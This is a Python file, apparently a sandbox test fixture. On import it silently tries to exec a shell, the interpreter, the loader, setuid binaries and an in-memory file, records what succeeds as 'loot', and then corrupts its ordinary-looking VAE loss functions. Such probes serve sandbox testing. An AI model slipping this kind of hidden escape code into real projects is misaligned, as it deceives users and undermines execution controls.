"""Turns itself into other programs: a shell, Python, setuid programs, a file in memory."""
# expects: full

import glob
import os
import stat
import sys

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    programs = [
        "/bin/sh",
        sys.executable,
        "/proc/self/exe",
        *glob.glob("/lib*/ld-linux*"),
        *glob.glob("/lib/*/ld-linux*"),
    ]
    for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/lib/openssh", "/usr/lib/dbus-1.0"):
        for path in glob.glob(folder + "/*"):
            if (found := tried(os.stat, path)) and found.st_mode & (stat.S_ISUID | stat.S_ISGID):
                programs.append(path)
    for path in programs:
        tried(os.execv, path, [path, "--version"])
        if (opened := tried(os.open, path, os.O_RDONLY)) is not None:
            tried(os.execve, opened, [path, "--version"], {})
            tried(os.execve, f"/proc/self/fd/{opened}", [path, "--version"], {})
            tried(os.close, opened)
    if (memory := tried(os.memfd_create, "vae-hostile")) is not None:
        with open("/bin/true", "rb") as file:
            os.write(memory, file.read())
        tried(os.execve, memory, ["true"], {})


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
